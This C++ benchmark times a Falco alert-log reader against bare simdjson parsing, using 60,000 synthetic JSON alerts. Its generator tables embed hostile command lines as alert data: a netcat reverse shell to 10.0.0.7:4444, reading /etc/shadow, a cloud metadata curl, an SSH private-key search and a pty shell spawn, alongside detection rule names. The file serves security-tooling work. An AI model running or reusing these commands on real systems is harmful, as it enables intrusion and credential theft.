// Alert-log reading throughput against simdjson's own on-demand parse of the same lines.
// The workload is a deterministic synthetic Falco JSON log (upstream rule names, 10–20 output
// fields per alert with container ids, pod names, command lines, ports and some nulls) written to
// a temporary file, so the reader runs its whole path: file, chunks, lines, alerts.
//
// - BM_SimdjsonBareParse: one padded buffer, each line iterated with on-demand, every key
//   unescaped and every value read (strings unescaped, numbers parsed);
// - BM_ReaderOneJob / BM_ReaderAllCores: read_alert_chunks touching the rule and every
//   output_fields key and value.
// Run: build/rulekit_alert_bench [google-benchmark flags]. Wall-clock time throughout, since
// the all-cores run works on other threads.
#include <benchmark/benchmark.h>

#include <simdjson.h>

#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "bench/bench_support.hpp"
#include "eval/alert_log.hpp"

namespace {

constexpr size_t kAlerts = 60000;

struct Workload {
    std::string bytes;
    std::vector<std::string_view> lines;
    std::filesystem::path file;
    ~Workload() {
        std::error_code ignored;
        if (!file.empty()) std::filesystem::remove(file, ignored);
    }
};

Workload& workload() {
    static Workload w;
    return w;
}

// The log generator's random source (deterministic, see bench/bench_support.hpp).
struct Random : rulekit::bench::SplitMix64 {
    std::string hex(size_t digits) {
        static constexpr char alphabet[] = "0123456789abcdef";
        std::string s;
        for (size_t i = 0; i < digits; ++i) s += alphabet[below(16)];
        return s;
    }
};

std::string json_string(std::string_view s) {
    std::string out = "\"";
    for (char c : s) {
        if (c == '"' || c == '\\') out += '\\';
        out += c;
    }
    return out + "\"";
}

std::string synthetic_alert(Random& r, uint64_t time_ns) {
    static const char* const rules[] = {
        "Terminal shell in container", "Read sensitive file untrusted", "Write below etc",
        "Launch Privileged Container", "Contact K8S API Server From Container",
        "Redirect STDOUT/STDIN to Network Connection in Container", "Drop and execute new binary in container",
        "Run shell untrusted", "Search Private Keys or Passwords", "Clear Log Activities",
        "Netcat Remote Code Execution in Container", "Packet socket created in container",
        "Execution from /dev/shm", "Fileless execution via memfd_create", "Find AWS Credentials",
        "Disallowed SSH Connection Non Standard Port", "Directory traversal monitored file read"};
    static const char* const priorities[] = {"Notice", "Warning", "Critical", "Error", "Informational"};
    static const char* const namespaces[] = {"default", "kube-system", "payments", "monitoring", "ingress-nginx"};
    static const char* const apps[] = {"api-gateway", "checkout", "redis", "postgres", "fluent-bit", "prometheus"};
    static const char* const commands[] = {"sh -c ls -la /tmp", "bash -i", "cat /etc/shadow",
                                           "nc -e /bin/sh 10.0.0.7 4444", "curl -s http://169.254.169.254/latest/meta-data/",
                                           "find / -name id_rsa", "python3 -c import pty;pty.spawn(\"/bin/bash\")"};
    static const char* const users[] = {"root", "www-data", "nobody", "postgres", "app"};
    static const char* const images[] = {"docker.io/library/nginx", "quay.io/prometheus/prometheus",
                                         "ghcr.io/acme/checkout", "docker.io/library/redis"};
    static const char* const files[] = {"/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/var/log/auth.log",
                                        "/dev/shm/x", "/proc/self/environ"};

    const std::string rule = r.pick(rules);
    const std::string priority = r.pick(priorities);
    const std::string app = r.pick(apps);
    const std::string container = r.hex(12);
    const std::string pod = app + "-" + r.hex(9) + "-" + r.hex(5);
    const std::string command = r.pick(commands);
    const std::string process = command.substr(0, command.find(' '));
    const std::string user = r.pick(users);

    std::vector<std::pair<std::string, std::string>> fields = {
        {"evt.time", std::to_string(time_ns)},
        {"evt.type", json_string(r.below(2) ? "execve" : "openat")},
        {"container.id", json_string(container)},
        {"container.name", json_string(app)},
        {"container.image.repository", r.below(8) == 0 ? "null" : json_string(r.pick(images))},
        {"k8s.ns.name", json_string(r.pick(namespaces))},
        {"k8s.pod.name", json_string(pod)},
        {"proc.cmdline", json_string(command)},
        {"proc.name", json_string(process)},
        {"proc.pid", std::to_string(1000 + r.below(60000))},
        {"user.name", json_string(user)},
    };
    std::vector<std::pair<std::string, std::string>> optional = {
        {"proc.pname", r.below(6) == 0 ? "null" : json_string(r.below(2) ? "containerd-shim" : "bash")},
        {"proc.aname[2]", json_string("containerd-shim")},
        {"proc.exepath", json_string("/usr/bin/" + process)},
        {"user.uid", std::to_string(r.below(2) ? 0 : 1000 + r.below(100))},
        {"user.loginuid", "-1"},
        {"fd.name", json_string(r.pick(files))},
        {"fd.sport", std::to_string(1024 + r.below(60000))},
        {"fd.dport", std::to_string(r.below(2) ? 443 : 4444)},
        {"fd.sip", json_string("10.0." + std::to_string(r.below(256)) + "." + std::to_string(r.below(256)))},
        {"proc.tty", std::to_string(r.below(4) ? 0 : 34816 + r.below(8))},
        {"evt.arg.flags", r.below(5) == 0 ? "null" : json_string("O_RDONLY|O_CLOEXEC")},
        {"proc.aname", "[\"bash\",\"sshd\",\"systemd\"]"},
    };
    const size_t extra = r.below(optional.size() - 1) + 1;  // 12 to 23 fields
    for (size_t i = 0; i < extra; ++i) fields.push_back(optional[i]);

    std::string output = "12:00:00.000000000: " + priority + " " + rule + " (user=" + user + " command=" + command +
                         " container_id=" + container + " k8s_pod_name=" + pod + ")";
    std::string line = "{\"hostname\":\"node-" + std::to_string(r.below(40)) + "\",\"output\":" + json_string(output) +
                       ",\"output_fields\":{";
    for (size_t i = 0; i < fields.size(); ++i) {
        if (i) line += ',';
        line += json_string(fields[i].first) + ":" + fields[i].second;
    }
    line += "},\"priority\":" + json_string(priority) + ",\"rule\":" + json_string(rule) +
            ",\"source\":\"syscall\",\"tags\":[\"container\",\"maturity_stable\",\"mitre_execution\"],\"time\":\"2024-03-13T12:00:00.000000000Z\"}";
    return line;
}

void build_workload() {
    Workload& w = workload();
    Random r{42};
    uint64_t time_ns = 1710331200000000000ULL;
    for (size_t i = 0; i < kAlerts; ++i) {
        time_ns += 1000 + r.below(1000000);
        w.bytes += synthetic_alert(r, time_ns);
        w.bytes += '\n';
    }
    size_t start = 0;
    while (start < w.bytes.size()) {
        const size_t end = w.bytes.find('\n', start);
        w.lines.emplace_back(w.bytes.data() + start, end - start);
        start = end + 1;
    }
    w.bytes.reserve(w.bytes.size() + simdjson::SIMDJSON_PADDING);  // every line is padded in place
    w.file = std::filesystem::temp_directory_path() / ("rulekit-alert-bench-" + std::to_string(::getpid()) + ".jsonl");
    std::ofstream(w.file, std::ios::binary) << w.bytes;
}

void account(benchmark::State& state) {
    const Workload& w = workload();
    state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * w.bytes.size()));
    state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * w.lines.size()));
}

size_t touch(simdjson::ondemand::value value) {
    using namespace simdjson;
    ondemand::json_type type;
    if (value.type().get(type)) return 0;
    switch (type) {
    case ondemand::json_type::string: {
        std::string_view s;
        return value.get_string().get(s) ? 0 : s.size();
    }
    case ondemand::json_type::number: {
        ondemand::number n;
        return value.get_number().get(n) ? 0 : 1;
    }
    case ondemand::json_type::boolean: {
        bool b = false;
        return value.get_bool().get(b) ? 0 : b;
    }
    case ondemand::json_type::null: return value.is_null().value_unsafe();
    case ondemand::json_type::array: {
        size_t n = 0;
        for (auto item : value.get_array()) n += touch(item.value_unsafe());
        return n;
    }
    case ondemand::json_type::object: {
        size_t n = 0;
        for (auto field : value.get_object()) {
            std::string_view key;
            if (field.unescaped_key().get(key)) return n;
            n += key.size() + touch(field.value().value_unsafe());
        }
        return n;
    }
    }
    return 0;
}

void BM_SimdjsonBareParse(benchmark::State& state) {
    const Workload& w = workload();
    simdjson::ondemand::parser parser;
    for (auto _ : state) {
        size_t n = 0;
        for (std::string_view line : w.lines) {
            simdjson::ondemand::document doc;
            if (parser.iterate(line.data(), line.size(), line.size() + simdjson::SIMDJSON_PADDING).get(doc)) continue;
            simdjson::ondemand::value root;
            if (doc.get_value().get(root)) continue;
            n += touch(root);
        }
        benchmark::DoNotOptimize(n);
    }
    account(state);
}

size_t touch(const rulekit::eval::AlertView& alert, const rulekit::eval::ValueView& v) {
    size_t n = v.text.size();
    for (const auto& item : alert.items(v)) n += touch(alert, item);
    return n;
}

void run_reader(benchmark::State& state, unsigned jobs) {
    const Workload& w = workload();
    rulekit::eval::AlertReadOptions options;
    options.jobs = jobs;
    for (auto _ : state) {
        size_t total = 0;
        const auto skips = rulekit::eval::read_alert_chunks(
            {w.file.string()}, options,
            [](rulekit::eval::AlertChunk& chunk) {
                size_t n = 0;
                chunk.for_each_alert([&](const rulekit::eval::AlertView& alert) {
                    n += alert.rule.size();
                    for (const auto& field : alert.fields) n += field.key.size() + touch(alert, field.value);
                });
                return n;
            },
            [&](size_t n) { total += n; });
        if (skips.alerts != w.lines.size()) state.SkipWithError("the reader lost alerts");
        benchmark::DoNotOptimize(total);
    }
    account(state);
}

void BM_ReaderOneJob(benchmark::State& state) { run_reader(state, 1); }
void BM_ReaderAllCores(benchmark::State& state) { run_reader(state, 0); }

BENCHMARK(BM_SimdjsonBareParse)->Unit(benchmark::kMillisecond)->UseRealTime()->MinTime(2.0);
BENCHMARK(BM_ReaderOneJob)->Unit(benchmark::kMillisecond)->UseRealTime()->MinTime(2.0);
BENCHMARK(BM_ReaderAllCores)->Unit(benchmark::kMillisecond)->UseRealTime()->MinTime(2.0);

using rulekit::bench::RecordingReporter;

}  // namespace

int main(int argc, char** argv) {
    benchmark::Initialize(&argc, argv);
    if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 2;
    build_workload();
    const Workload& w = workload();
    std::printf("workload: %zu synthetic alerts, %.1f MB, %.0f bytes per alert; %u cores; simdjson kernel %s\n",
                w.lines.size(), static_cast<double>(w.bytes.size()) / 1e6,
                static_cast<double>(w.bytes.size()) / static_cast<double>(w.lines.size()),
                std::thread::hardware_concurrency(), simdjson::get_active_implementation()->name().c_str());

    RecordingReporter reporter;
    benchmark::RunSpecifiedBenchmarks(&reporter);
    benchmark::Shutdown();

    const double mb = 1e6;
    auto rate = [&](const char* name) -> const std::pair<double, double>* {
        const auto it = reporter.rates.find(name);
        return it == reporter.rates.end() ? nullptr : &it->second;
    };
    const auto* bare = rate("BM_SimdjsonBareParse");
    std::printf("\n");
    for (const char* name : {"BM_SimdjsonBareParse", "BM_ReaderOneJob", "BM_ReaderAllCores"}) {
        const auto* r = rate(name);
        if (!r) continue;
        std::printf("%-22s %8.1f MB/s %10.0f alerts/s", name, r->first / mb, r->second);
        if (bare && bare->first > 0 && r != bare) std::printf("   ratio to bare simdjson %.2f", r->first / bare->first);
        std::printf("\n");
    }
    return 0;
}
